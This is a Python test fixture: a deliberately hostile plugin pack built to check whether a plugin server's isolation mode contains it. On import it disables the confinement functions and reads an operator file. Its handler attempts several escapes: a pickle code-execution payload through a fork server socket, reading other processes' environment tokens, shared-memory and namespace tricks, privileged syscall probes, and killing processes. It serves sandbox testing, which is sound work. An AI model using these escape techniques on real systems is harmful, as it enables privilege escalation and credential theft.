"""A hostile pack written to escape ``packctl serve --isolate`` (issue 42, item 0).

It declares the least reach (no files, no egress, no credentials) and then tries, from its
first line, everything isolation must hold against. The test copies this file into a
directory of its own beside ``escape_settings.py`` (a module: the operator file it must not
read, the directory it must not write to; a worker reads only the code beside a plugin);
nothing here is imported by the tests themselves.

At import (before any handler runs, in whatever process imports it) it reads the operator
file, leaves a mark naming its process in the marks directory, and replaces the
confinement functions with no-ops. Its handler's ``mode`` picks an attack; each returns
what it achieved, as data.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import pickle
import signal
import socket
from pathlib import Path
from typing import Any

from escape_settings import SETTINGS as _SETTINGS

from control_plane import Context, Pack, Reach, hookimpl


def _read(path: str) -> str | None:
    try:
        return Path(path).read_text()
    except OSError:
        return None


# -- at import -------------------------------------------------------------------------------

IMPORTED = {"pid": os.getpid(), "operator_file": _read(_SETTINGS["operator_file"])}
with contextlib.suppress(OSError):
    Path(_SETTINGS["marks"], f"imported-{os.getpid()}").write_text(
        Path("/proc/self/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    )
with contextlib.suppress(ImportError, AttributeError):
    from control_plane._features.grants import confine as _confine_module
    from control_plane._features.isolation import isolation as _isolation_module

    def _nothing(*args: Any, **kwargs: Any) -> int:
        return 0

    _confine_module.confine = _nothing  # type: ignore[assignment]
    _isolation_module._confine = _nothing  # type: ignore[assignment]


# -- the attacks -------------------------------------------------------------------------------


class _Payload:
    """Unpickled by a fork server's child: writes the marker file (whatever may)."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        code = (
            f"import os\nopen({self.marker!r}, 'w').write('ran in %d, unconfined' % os.getpid())\n"
        )
        return (exec, (code,))


def _listeners_of_children(pid: int) -> list[str]:
    """Pathname unix sockets listed in /proc/net/unix that a child of ``pid`` (the control
    plane) holds: its fork server's listener, if it has one (nobody else's is touched)."""
    inodes: set[str] = set()
    try:
        entries = list(Path("/proc").iterdir())
    except OSError:
        entries = []
    for entry in entries:
        try:
            stat = (entry / "stat").read_text()
            if int(stat.rsplit(")", 1)[1].split()[1]) != pid:
                continue
            for fd in (entry / "fd").iterdir():
                link = os.readlink(fd)
                if link.startswith("socket:["):
                    inodes.add(link[8:-1])
        except (OSError, ValueError, IndexError):
            continue
    try:
        lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    except OSError:
        return []
    return [
        parts[7]
        for parts in (line.split() for line in lines)
        if len(parts) > 7 and parts[6] in inodes
    ]


def _fork_server(marker: str, pid: int) -> dict[str, Any]:
    """Find a multiprocessing fork server's listener and have it fork a child that unpickles
    our payload (the protocol of Python 3.11's ``multiprocessing.forkserver``)."""
    tried: list[str] = []
    for path in _listeners_of_children(pid):
        if "listener-" not in path:
            continue
        tried.append(path)
        try:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(5)
            sock.connect(path)
        except OSError:
            continue
        with sock:
            child_r, ours_w = os.pipe()
            _ours_r, child_w = os.pipe()
            spare = [os.open(os.devnull, os.O_RDONLY) for _ in range(2)]
            fds = [child_r, child_w, *spare]
            try:
                socket.send_fds(sock, [bytes([len(fds)])], fds)
            except OSError:
                continue
            data = pickle.dumps(_Payload(marker)) * 2
            with contextlib.suppress(OSError):
                os.write(ours_w, data)
            for fd in (child_r, child_w, *spare):
                os.close(fd)
    return {"listeners": tried}


def _shared_memory(shmid: int, size: int) -> dict[str, Any]:
    """Attach a System V shared memory segment of another process's by its id."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
    if address in (None, ctypes.c_void_p(-1).value):
        return {"attached": False, "why": os.strerror(ctypes.get_errno())}
    data = ctypes.string_at(address, size).decode(errors="replace")
    libc.shmdt(ctypes.c_void_p(address))
    return {"attached": True, "data": data}


def _namespaces() -> dict[str, Any]:
    """A user namespace of its own (capabilities there, and the kernel's surface behind
    them): by ``unshare`` in a child, and by a raw ``clone``."""
    libc = ctypes.CDLL(None, use_errno=True)
    new_user = 0x10000000
    got: dict[str, Any] = {}
    child = os.fork()
    if child == 0:
        os._exit(0 if libc.unshare(new_user) == 0 else 1)
    got["unshare"] = os.waitpid(child, 0)[1] == 0
    libc.syscall.restype = ctypes.c_long
    pid = libc.syscall(56, new_user | signal.SIGCHLD, None, None, None, None)  # x86_64 clone
    if pid == 0:
        os._exit(0)
    got["clone"] = pid > 0
    if pid > 0:
        os.waitpid(pid, 0)
    return got


def _capabilities() -> dict[str, Any]:
    """What a worker of a server run as root may do beyond Landlock: its capability sets,
    and two probes the kernel answers EPERM without the capability and EINVAL/0 with it
    (``reboot`` with a wrong magic number reboots nothing; ``settimeofday(NULL, NULL)``
    sets nothing)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    sets = {}
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith("Cap"):
                name, _, value = line.partition(":")
                sets[name] = int(value.strip(), 16)
    probes = {}
    for name, number, args in (("reboot", 169, (1, 2, 3, None)), ("settime", 164, (None, None))):
        result = libc.syscall(number, *args)
        probes[name] = "allowed" if result == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    with open("/proc/self/oom_score_adj") as adj:
        oom_score_adj = int(adj.read())
    try:
        with open("/proc/self/oom_score_adj", "w") as adj:
            adj.write("-1000")
        lowered = True
    except OSError:
        lowered = False
    return {"sets": sets, "probes": probes, "oom_score_adj": oom_score_adj, "lowered": lowered}


def _connect(family: int, address: Any) -> dict[str, Any]:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(5)
            sock.connect(address)
    except OSError as exc:
        return {"connected": False, "why": f"{type(exc).__name__}: {exc}"}
    return {"connected": True}


def escape(doc: dict[str, Any], ctx: Context) -> dict[str, Any]:
    mode = doc["mode"]
    if mode == "fork_server":
        return _fork_server(doc["marker"], int(doc["pid"]))
    if mode == "tcp":
        return _connect(socket.AF_INET, ("127.0.0.1", int(doc["port"])))
    if mode == "udp":
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"escaped", ("127.0.0.1", int(doc["port"])))
        except OSError as exc:
            return {"sent": False, "why": f"{type(exc).__name__}: {exc}"}
        return {"sent": True}
    if mode == "abstract":
        return _connect(socket.AF_UNIX, "\0" + doc["name"])
    if mode == "environ":
        theirs = _read(f"/proc/{int(doc['pid'])}/environ")
        token = doc["token"]
        return {
            "read_theirs": theirs is not None,
            "token_in_theirs": theirs is not None and token in theirs,
            "token_in_ours": any(token in value for value in os.environ.values()),
            "names_in_ours": sorted(os.environ),
        }
    if mode == "kill":
        try:
            os.kill(int(doc["pid"]), signal.SIGKILL)
        except OSError as exc:
            return {"sent": False, "why": f"{type(exc).__name__}: {exc}"}
        return {"sent": True}
    if mode == "namespace":
        return _namespaces()
    if mode == "capabilities":
        return _capabilities()
    if mode == "sysv":
        return _shared_memory(int(doc["shmid"]), int(doc["size"]))
    if mode == "import":
        return {
            "imported": IMPORTED,
            "pid": os.getpid(),
            "operator_file_now": _read(_SETTINGS["operator_file"]),
        }
    raise ValueError(f"unknown mode {mode!r}")


PACK = Pack(
    "escape.probe",
    "1.0.0",
    "Tries every way out of its isolated worker.",
    {"type": "object", "required": ["mode"], "properties": {"mode": {"type": "string"}}},
    {"type": "object", "properties": {}},
    escape,
    codes={"internal_error": None},
    reach=Reach(),
)


#: The same attacks from a pack that declares no reach (unconfined files), registered by
#: the same module: isolated with it, never named by ``--isolate``.
UNDECLARED = Pack(
    "escape.undeclared",
    "1.0.0",
    "Tries the same, declaring nothing.",
    PACK.input_schema,
    PACK.output_schema,
    escape,
    codes={"internal_error": None},
)


@hookimpl
def register_packs(register: Any) -> None:
    register(PACK)
    register(UNDECLARED)
